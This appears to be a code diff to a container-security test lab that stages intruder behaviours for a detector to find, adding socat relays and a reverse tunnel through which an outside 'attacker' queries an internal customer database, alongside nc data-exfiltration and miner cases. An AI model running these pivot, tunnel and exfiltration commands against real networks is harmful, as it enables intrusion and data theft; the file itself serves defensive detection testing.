@@ -2,7 +2,7 @@
  * Attacks that an intruder in a container would try, with the tools that he would bring, one container each so that
  * each finding has one right name. Every one is bounded and stays within the lab.
  */
-import { BUSYBOX_IMAGE } from './images.ts';
+import { BUSYBOX_IMAGE, TOOLS_IMAGE } from './images.ts';
 import { TUNNEL_PORT } from './internet.ts';
 import type { Lab } from './lab.ts';
 import { type RunningProcess, waitFor } from './run.ts';
@@ -55,6 +55,8 @@ export interface Intrusion {
 
 const ATTACKER = INTERNET.attacker.v4;
 const STRATUM_PORT = '3333';
+/** Where somebody outside waits for a tunnel to be dug to him. */
+const CALL_BACK_PORT = '9100';
 /** Of the wan's own: a server of pings can have it without taking those away that others answer. */
 const PING_SERVER = ROUTER_ADDRESS;
 /** Whoever is there for five seconds is accused at once. */
@@ -228,6 +230,50 @@ export const INTRUSIONS: readonly Intrusion[] = [
       sh(`dd if=/dev/zero bs=1M count=60 2> /dev/null | timeout 15 nc -w 3 ${ATTACKER} ${TUNNEL_PORT}`),
   },
   {
+    id: 'relay',
+    title: 'socat in a container on two networks: a member of the internal one asks the internet through it',
+    found: ['internal-relay'],
+    prepare: async (lab) =>
+      insideAsks(
+        lab,
+        'relay',
+        "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | socat -t 2 - TCP:intruder-relay:8000; sleep 0.7",
+      ),
+    command: () => ['timeout', '30', 'socat', 'TCP-LISTEN:8000,fork,reuseaddr', `TCP:${ATTACKER}:80`],
+  },
+  {
+    id: 'relay-datagrams',
+    title: 'the same with datagrams, on a port that is no resolver',
+    found: ['internal-relay'],
+    prepare: async (lab) =>
+      insideAsks(
+        lab,
+        'relay-datagrams',
+        `printf '\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3www\\7example\\4test\\0\\0\\1\\0\\1' | socat -t 0.7 - UDP:intruder-relay-datagrams:5300`,
+      ),
+    command: () => [
+      ...['timeout', '30', 'socat', 'UDP-LISTEN:5300,fork,reuseaddr'],
+      `UDP:${INTERNET.resolver.v4}:53`,
+    ],
+  },
+  {
+    id: 'relay-tunnel',
+    title:
+      'a container on two networks calls somebody outside, who then asks the internal database through it',
+    found: ['internal-relay'],
+    async prepare(lab) {
+      joinBack(lab, 'relay-tunnel', 'true');
+      const asks =
+        'for i in 1 2 3 4 5 6 7 8 9 10 11 12; do echo give me row $i of the customers; sleep 0.9; done';
+      const shell = ['-e', 'busybox', 'sh', '-c', asks];
+      return listening(lab, ['busybox', 'nc', '-ll', '-p', CALL_BACK_PORT, ...shell], `:${CALL_BACK_PORT}`);
+    },
+    command: ({ database }) => [
+      ...['timeout', '30', 'socat'],
+      ...[`TCP:${ATTACKER}:${CALL_BACK_PORT}`, `TCP:${database}:5432`],
+    ],
+  },
+  {
     id: 'miner',
     title: 'a miner logs in at its pool (stratum)',
     found: ['mining'],
@@ -311,6 +357,26 @@ function nmap(...words: readonly string[]): readonly string[] {
 function rogue(...words: readonly string[]): readonly string[] {
   const quiet = ['--keep-in-foreground', '--conf-file=/dev/null', '--port=0', '--user=root', '--pid-file='];
   return ['timeout', '8', 'dnsmasq', ...quiet, '--dhcp-leasefile=/tmp/leases', ...words];
+}
+
+/** The intruder's container gets a foot in the internal network as soon as it is there; then `script` runs on the host. */
+function joinBack(lab: Lab, id: string, script: string): RunningProcess {
+  const intruder = `intruder-${id}`;
+  // Of one that is only made and not yet started, engines lose the second network now and then.
+  const joined = `docker exec ${intruder} true 2> /dev/null && docker network connect ${BACK.name} ${intruder}`;
+  const patience = 'for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20';
+  return lab.spawn('host', ['sh', '-c', `${patience}; do ${joined} && break; sleep 0.2; done; ${script}`]);
+}
+
+/** A member of the internal network does this some times in a row. */
+function insideAsks(lab: Lab, id: string, command: string): RunningProcess {
+  const loop = `for i in 1 2 3 4 5 6 7 8 9 10 11 12; do ${command}; done`;
+  const client = `docker run --rm --name inside-${id} --network ${BACK.name} ${TOOLS_IMAGE}`;
+  return joinBack(lab, id, `sleep 2; exec ${client} sh -c ${quoted(loop)}`);
+}
+
+function quoted(script: string): string {
+  return `'${script.replaceAll("'", `'\\''`)}'`;
 }
 
 /** Runs in the wan, or on the host, until the lab's caller stops it; waits until its socket is there, by address or by program. */
